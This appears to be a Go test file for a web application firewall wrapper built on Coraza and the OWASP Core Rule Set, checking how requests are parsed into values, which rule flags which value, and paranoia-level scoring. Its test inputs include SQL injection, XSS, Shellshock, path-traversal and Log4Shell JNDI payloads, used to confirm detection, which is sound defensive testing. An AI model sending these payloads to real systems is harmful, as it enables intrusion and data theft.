// SPDX-License-Identifier: Apache-2.0

package request_test

import (
	"math"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mlverdict/mlverdict/internal/waf/waftest"
	"github.com/mlverdict/mlverdict/model/request"
)

// standard are the headers that every request of waftest carries, as values.
func standard(more ...request.Value) []request.Value {
	r := waftest.Get("/")
	list := append(more,
		request.Value{Place: request.Header, Name: "accept", Text: r.Header.Get("Accept")},
		request.Value{Place: request.Header, Name: "accept-language", Text: r.Header.Get("Accept-Language")},
		request.Value{Place: request.Header, Name: "host", Text: r.Host},
		request.Value{Place: request.Header, Name: "user-agent", Text: r.Header.Get("User-Agent")},
	)
	slices.SortFunc(list, func(a, b request.Value) int {
		return slices.Compare([]string{strconv.Itoa(int(a.Place)), a.Name, a.Text}, []string{strconv.Itoa(int(b.Place)), b.Name, b.Text})
	})
	return list
}

// Every piece of a request becomes a value, at its place and in the form in which Coraza shows it to rules.
func TestReadValues(t *testing.T) {
	w := waftest.Observe(t, 1)
	target := "/a%20b/c?q=x%20y&odd%20name=1&q=second&empty=&q=second"
	r := waftest.Get(target)
	r.Header.Set("Cookie", "sid=1%20; odd*=2")
	waftest.Ask(t, w, r)
	v := w.View(t)
	assert.Equal(t, standard(
		request.Value{Place: request.Path, Text: "/a b/c"},
		request.Value{Place: request.Query, Name: "odd name", Text: "1"},
		request.Value{Place: request.Query, Name: "q", Text: "second"},
		request.Value{Place: request.Query, Name: "q", Text: "x y"},
		request.Value{Place: request.Name, Text: "odd name"},
		request.Value{Place: request.Name, Text: "odd*"},
		request.Value{Place: request.Cookie, Name: "odd*", Text: "2"},
		request.Value{Place: request.Cookie, Name: "sid", Text: "1%20"},
	), v.Values, "sorted, each once, nothing empty, names where they are more than identifiers, cookies as they are")
	assert.Equal(t, "GET", v.Method)
	assert.Equal(t, waftest.Hour, v.Hour)
	assert.Equal(t, len(target), v.Target)
	assert.Equal(t, len(target)-len("/a%20b/c?"), v.Query)

	form := "a=1&b=two+words"
	waftest.Ask(t, w, waftest.Post("/p", form))
	v = w.View(t)
	assert.Equal(t, standard(
		request.Value{Place: request.Path, Text: "/p"},
		request.Value{Place: request.Form, Name: "a", Text: "1"},
		request.Value{Place: request.Form, Name: "b", Text: "two words"},
		request.Value{Place: request.Header, Name: "content-length", Text: strconv.Itoa(len(form))},
		request.Value{Place: request.Header, Name: "content-type", Text: "application/x-www-form-urlencoded"},
	), v.Values, "a form is there field by field and not as a body once more")
	assert.Equal(t, len(form), v.Size)

	waftest.Ask(t, w, body("application/json", `{"a":1}`))
	assert.Zero(t, w.View(t).Size, "Coraza's REQUEST_BODY_LENGTH is 0 for what a body processor takes apart")
}

// A benign request has values, no matches, and a score of 0 at every level.
func TestReadBenign(t *testing.T) {
	for pl := 1; pl <= request.ParanoiaLevels; pl++ {
		w := waftest.Observe(t, pl)
		waftest.Ask(t, w, waftest.Hello())
		v := w.View(t)
		assert.Empty(t, v.Matches)
		assert.NotEmpty(t, v.Values)
		assert.Equal(t, pl, v.Paranoia)
		assert.Equal(t, 5, v.Limit)
		assert.Zero(t, v.Score())
		assert.False(t, v.Denied())
		assert.NotContains(t, v.Flagged(nil), true)
	}
}

const injection = "1' UNION SELECT password FROM users--"

func body(contentType, text string) *http.Request {
	r := waftest.Post("/p", text)
	r.Header.Set("Content-Type", contentType)
	return r
}

func with(header, value string) *http.Request {
	r := waftest.Get("/")
	r.Header.Set(header, value)
	return r
}

// Wherever an attack stands, the rule that matches it points at the value that holds it, and at no other.
func TestReadFlagsTheValueThatMatched(t *testing.T) {
	escaped := url.QueryEscape(injection)
	tests := []struct {
		name    string
		request *http.Request
		rule    int
		want    request.Value
	}{
		{"query argument", waftest.Get("/?a=1&id=" + escaped + "&z=2"), 942100,
			request.Value{Place: request.Query, Name: "id", Text: injection}},
		{"query argument of an odd name", waftest.Get("/?a=1&%2Aid=" + escaped), 942100,
			request.Value{Place: request.Query, Name: "*id", Text: injection}},
		{"form field", waftest.Post("/p", "a=1&id="+escaped), 942100,
			request.Value{Place: request.Form, Name: "id", Text: injection}},
		{"argument name", waftest.Get("/?a=1&" + escaped + "=1"), 942100,
			request.Value{Place: request.Name, Text: injection}},
		{"form field name", waftest.Post("/p", "a=1&"+escaped+"=1"), 942100,
			request.Value{Place: request.Name, Text: injection}},
		{"cookie", with("Cookie", "sid=7; id="+injection), 942100,
			request.Value{Place: request.Cookie, Name: "id", Text: injection}},
		{"cookie name", with("Cookie", "sid=7; <script>alert(1)</script>=1"), 941110,
			request.Value{Place: request.Name, Text: "<script>alert(1)</script>"}},
		{"header", with("User-Agent", injection), 942100,
			request.Value{Place: request.Header, Name: "user-agent", Text: injection}},
		{"header of mixed case", with("X-Api-Token", "() { :; }; echo owned"), 932170,
			request.Value{Place: request.Header, Name: "x-api-token", Text: "() { :; }; echo owned"}},
		{"path", waftest.Get("/news/%3Cscript%3Ealert(1)%3C/script%3E"), 941110,
			request.Value{Place: request.Path, Text: "/news/<script>alert(1)</script>"}},
		{"JSON leaf", body("application/json", `{"a":"1","b":{"c":["`+injection+`"]}}`), 942100,
			request.Value{Place: request.Form, Name: "json.b.c.0", Text: injection}},
		{"multipart field", body("multipart/form-data; boundary=X",
			"--X\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\n"+injection+"\r\n--X--\r\n"), 942100,
			request.Value{Place: request.Form, Name: "id", Text: injection}},
		{"multipart file name", body("multipart/form-data; boundary=X",
			"--X\r\nContent-Disposition: form-data; name=\"up\"; filename=\"../../etc/passwd\"\r\n"+
				"Content-Type: text/plain\r\n\r\ntext\r\n--X--\r\n"), 930110,
			request.Value{Place: request.File, Text: "../../etc/passwd"}},
		{"XML text", body("application/xml", "<r><b>"+injection+"</b></r>"), 942100,
			request.Value{Place: request.XML, Name: "/*", Text: injection}},
		{"XML attribute", body("application/xml", `<r a="${jndi:ldap://x.example/a}"/>`), 944150,
			request.Value{Place: request.XML, Name: "//@*", Text: "${jndi:ldap://x.example/a}"}},
		// Coraza takes a body of another type apart as a form: without "=" its text is a name.
		{"raw body", body("text/plain", injection), 942100,
			request.Value{Place: request.Name, Text: injection}},
		{"raw body with =", body("text/plain", "note="+injection), 942100,
			request.Value{Place: request.Form, Name: "note", Text: injection}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := waftest.Observe(t, 1)
			waftest.Ask(t, w, tt.request)
			v := w.View(t)
			i := slices.IndexFunc(v.Matches, func(m request.Match) bool { return m.Rule == tt.rule })
			require.GreaterOrEqual(t, i, 0, "rule %d is not among %v", tt.rule, v.Matches)
			m := v.Matches[i]
			assert.Equal(t, 1, m.Paranoia)
			assert.Equal(t, 5, m.Score)
			assert.True(t, m.Payload())
			var flagged []request.Value
			for _, s := range m.Spans {
				flagged = append(flagged, v.Values[s.Lo:s.Hi]...)
			}
			assert.Equal(t, []request.Value{tt.want}, flagged)
			where := slices.Index(v.Values, tt.want)
			assert.True(t, v.Flagged(nil)[where])
		})
	}
}

func TestMatchValues(t *testing.T) {
	overlapping := request.Match{Spans: []request.Span{{Lo: 0, Hi: 1}, {Lo: 0, Hi: 3}, {Lo: 2, Hi: 3}, {Lo: 2, Hi: 5}}}
	assert.Equal(t, []int{0, 1, 2, 3, 4}, slices.Collect(overlapping.Values(9)), "what stands in two spans comes once")

	m := request.Match{Spans: []request.Span{{Lo: -5, Hi: 2}, {Lo: 1, Hi: 1}, {Lo: 3, Hi: math.MaxInt32}}}
	assert.Equal(t, []int{0, 1, 3, 4}, slices.Collect(m.Values(5)))
	assert.Equal(t, []int{0}, slices.Collect(m.Values(1)))
	assert.Empty(t, slices.Collect(m.Values(0)))
	for i := range m.Values(5) {
		assert.Zero(t, i)
		break
	}
}

func TestRuleParanoia(t *testing.T) {
	for want, tags := range map[int][]string{
		0: {"attack-sqli", "paranoia-level/0", "paranoia-level/5", "paranoia-level/-1", "paranoia-level/x", "paranoia-level/"},
		3: {"attack-sqli", "paranoia-level/3"},
		4: {"paranoia-level/9", "paranoia-level/4"},
	} {
		assert.Equal(t, want, request.RuleParanoia(tags), tags)
	}
	assert.Zero(t, request.RuleParanoia(nil))
}

// The view's score is CRS's own, at its level, and AtParanoia gives the scores of the levels below.
func TestScoreIsThatOfCRS(t *testing.T) {
	requests := map[string]func() *http.Request{
		"hello": waftest.Hello, "injection": waftest.Injection, "beacon": waftest.Beacon,
		"levels":   func() *http.Request { return waftest.Get("/?q=rock+%27n%27+roll+%28live%29+%3B+best+of+%231") },
		"protocol": func() *http.Request { return body("text/plain", "event=pageview") },
	}
	for name, r := range requests {
		t.Run(name, func(t *testing.T) {
			highest := waftest.Observe(t, request.ParanoiaLevels)
			waftest.Ask(t, highest, r())
			top := highest.View(t)
			for pl := 1; pl <= request.ParanoiaLevels; pl++ {
				w := waftest.Observe(t, pl)
				a := waftest.Ask(t, w, r())
				v := w.View(t)
				want := a.TX["blocking_inbound_anomaly_score"]
				assert.Equal(t, want, strconv.Itoa(v.Score()), "level %d", pl)
				at := top.AtParanoia(pl)
				assert.Equal(t, want, strconv.Itoa(at.Score()), "level %d from level 4", pl)
				assert.Equal(t, v.Denied(), at.Denied())
				assert.Equal(t, pl, at.Paranoia)
				assert.Equal(t, v.Values, at.Values)
				assert.Equal(t, v.Flagged(nil), at.Flagged(nil))

				sum := 0
				for _, m := range v.Matches {
					require.True(t, v.Counts(&m))
					sum += m.Score
				}
				assert.Equal(t, v.Score(), sum, "the matches account for the score")
				counting := slices.DeleteFunc(slices.Clone(at.Matches), func(m request.Match) bool { return !at.Counts(&m) })
				assert.ElementsMatch(t, v.Matches, counting)
			}
		})
	}
}

// A reused view holds nothing of the request before.
func TestReadReuses(t *testing.T) {
	w := waftest.Observe(t, 2)
	waftest.Ask(t, w, waftest.Hello())
	want := w.View(t)
	waftest.Ask(t, w, waftest.Injection())
	assert.NotEqual(t, want, w.View(t))
	waftest.Ask(t, w, waftest.Hello())
	assert.Equal(t, want, w.View(t))
}

func TestAtParanoiaClamps(t *testing.T) {
	v := request.View{Earned: [4]int{1, 2, 4, 8}, Limit: 5}
	for pl, want := range map[int]int{-1: 1, 0: 1, 1: 1, 2: 3, 3: 7, 4: 15, 5: 15} {
		at := v.AtParanoia(pl)
		assert.Equal(t, want, at.Score(), pl)
		assert.Equal(t, want >= 5, at.Denied(), pl)
	}
}

func TestPlaceNames(t *testing.T) {
	seen := map[string]bool{}
	for p := request.Path; p <= request.Body; p++ {
		assert.False(t, seen[p.String()], p)
		assert.Equal(t, strings.ToLower(p.String()), p.String())
		seen[p.String()] = true
	}
	assert.Equal(t, "unknown", (request.Body + 1).String())
}

// Spans that a stored view got wrong reach no memory that is not theirs.
func TestFlaggedWithOddSpans(t *testing.T) {
	v := request.View{Paranoia: 1, Values: make([]request.Value, 2), Matches: []request.Match{
		{Rule: 942100, Paranoia: 1, Spans: []request.Span{{Lo: -7, Hi: 1}, {Lo: 5, Hi: 9}, {Lo: 2, Hi: 1}}},
		{Rule: 942100, Paranoia: 2, Spans: []request.Span{{Lo: 0, Hi: 2}}},
		{Rule: 920100, Paranoia: 1, Spans: []request.Span{{Lo: 0, Hi: 2}}},
	}}
	assert.Equal(t, []bool{true, false}, v.Flagged([]bool{true, true, true}), "one counting match of a payload rule")
}
